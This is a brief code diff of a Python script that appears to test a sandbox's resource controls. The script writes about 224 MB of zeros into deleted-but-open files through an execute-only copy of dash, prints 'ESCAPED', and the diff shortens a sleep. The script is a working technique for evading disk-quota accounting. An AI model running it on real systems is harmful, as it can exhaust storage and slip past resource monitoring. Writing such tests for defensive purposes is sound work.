@@ -7,5 +7,5 @@ shutil.copy('/usr/bin/dash', 'shell')
 os.chmod('shell', 0o111)
 script = 'n=0; while [ $n -lt 7 ]; do n=$((n+1)); eval "exec $((n+2))>x"; rm x; head -c 33554432 /dev/zero >&$((n+2)); done; sleep 600'
 subprocess.Popen(['./shell', '-c', script])
-time.sleep(60)
+time.sleep(8)
 print('ESCAPED', flush=True)
